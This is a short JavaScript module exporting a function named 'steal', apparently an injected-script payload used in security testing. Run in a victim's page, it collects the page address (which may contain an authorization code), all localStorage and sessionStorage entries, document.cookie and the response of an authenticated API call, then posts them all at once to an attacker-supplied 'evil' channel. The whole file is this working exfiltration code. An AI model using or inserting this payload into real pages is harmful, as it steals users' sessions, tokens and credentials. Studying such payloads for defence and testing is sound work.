/**
 * Runs in the page if an injection gets it there: sends the address, which may have a code in it, the stores, and what the
 * API answers to the app's session, all at once so that nothing comes later.
 */
export async function steal(evil, { url }) {
  const answered = await globalThis.app?.auth.fetch(url).then((response) => response.text(), String);
  evil.post(
    `ran at ${location.href} with ${JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, answered])}`,
  );
}
